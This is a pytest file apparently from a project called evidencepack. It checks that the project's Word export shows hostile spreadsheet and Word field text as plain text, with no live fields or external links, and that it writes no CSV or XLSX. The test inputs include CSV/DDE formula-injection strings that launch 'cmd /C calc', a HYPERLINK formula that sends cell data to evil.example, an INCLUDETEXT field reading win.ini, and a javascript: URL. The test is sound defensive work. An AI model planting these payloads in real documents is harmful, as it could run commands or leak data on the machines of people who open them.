"""Tabular exports: spreadsheet formulas and text Word cannot hold.

evidencepack has no CSV or XLSX export (docs/security.md says so); its only tables are the Word document's. There,
text such as ``=HYPERLINK(...)`` or ``{ INCLUDETEXT ... }`` is plain text in a run, never a field or a link, and
control characters are shown as U+FFFD. The first test fails if a spreadsheet writer appears, so that whoever adds
one also neutralises formulas there.
"""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from xml.etree import ElementTree as ET

import pytest
from hostile_inputs import ROOT, example

from evidencepack.export.document import ExportOptions, export_docx
from evidencepack.export.gate import ExportOverride
from evidencepack.export.wording import REPLACEMENT
from evidencepack.options import CheckOptions
from evidencepack.report import REPORTERS

W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
R_ID = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id"
FORMULAS = [
    '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for the survey")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    "\t=1+1",
    '{ HYPERLINK "http://evil.example/" }',
    '{ INCLUDETEXT "C:\\\\Windows\\\\win.ini" }',
    "MERGEFIELD Password \\* MERGEFORMAT",
]
CONTROL = "".join(chr(c) for c in range(0x20) if chr(c) not in "\t\n\r") + "\ufffe\uffff"
OWN_FIELDS = {"PAGEREF", "PAGE", "NUMPAGES"}  # the only fields evidencepack writes (PAGEREF: the contents)


def test_evidencepack_writes_no_csv_or_spreadsheet() -> None:
    assert set(REPORTERS) == {"text", "json", "junit", "github"}
    writers = re.compile(r"csv\.writer|DictWriter|openpyxl|xlsxwriter|\.xlsx|to_csv|to_excel")
    found = [
        str(path.relative_to(ROOT))
        for path in (ROOT / "evidencepack").rglob("*.py")
        if writers.search(path.read_text(encoding="utf-8")) and "privacy" not in path.parts
    ]
    assert found == [], f"a tabular export must neutralise formulas (see docs/security.md): {found}"


def _hostile_tables_pack(text: str) -> dict:
    """The care home example with ``text`` in every field that lands in a table cell."""
    data = example()
    data["metadata"]["title"] = text
    data["metadata"]["prepared_by"] = {"name": text, "role": text}
    for item in data["evidence"]:
        item["title"] = text
        item["owner"] = {"name": text, "role": text}
    data["evidence"][0]["source"] = {"url": "javascript:alert(document.domain)"}
    data["evidence"][1]["source"] = {"path": text}
    for measure in data["measures"]:
        measure["name"] = text
        for group in measure.get("breakdown", []):
            group["group"] = text
    for action in data["actions"]:
        action["action"] = text
        action["owner"] = {"name": text, "role": text}
    return data


def _export(data: dict) -> dict[str, bytes]:
    override = ExportOverride(reason="hostile text test", by="A. Tester", date=dt.date(2026, 1, 1))
    options = ExportOptions(check=CheckOptions(check_files=False), override=override,
                            generated_at=dt.datetime(2026, 1, 1, tzinfo=dt.UTC))
    with zipfile.ZipFile(io.BytesIO(export_docx(data, options=options))) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _cells(root: ET.Element) -> list[str]:
    return ["".join(t.text or "" for t in cell.iter(f"{W}t")) for cell in root.iter(f"{W}tc")]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_in_a_table_is_literal_text_never_a_field_or_a_link(formula: str) -> None:
    parts = _export(_hostile_tables_pack(formula))
    root = ET.fromstring(parts["word/document.xml"])
    cells = _cells(root)
    literal = formula.replace("\t", "")  # a tab is written as w:tab, between runs of text
    assert sum(literal in cell for cell in cells) >= 5, "the text should be in the tables, as it was written"
    assert root.find(f".//{W}fldSimple") is None
    instructions = {(code.text or "").split()[0] for code in root.iter(f"{W}instrText") if (code.text or "").split()}
    assert instructions <= OWN_FIELDS
    for link in root.iter(f"{W}hyperlink"):
        assert link.get(R_ID) is None and link.get(f"{W}anchor"), "only links to places inside the document"
    for name, content in parts.items():
        if name.endswith(".rels"):
            for rel in ET.fromstring(content):
                assert rel.get("TargetMode") != "External", (name, rel.attrib)  # no link leaves the document
    assert "javascript:alert(document.domain)" in "".join(cells)  # a URL is shown, not linked


def test_text_word_cannot_hold_is_shown_as_a_replacement_in_tables() -> None:
    text = f"before{CONTROL}after"
    parts = _export(_hostile_tables_pack(text))
    cells = _cells(ET.fromstring(parts["word/document.xml"]))
    shown = f"before{REPLACEMENT * len(CONTROL)}after"
    assert sum(shown in cell for cell in cells) >= 5
    assert not any(ch in "".join(cells) for ch in CONTROL)
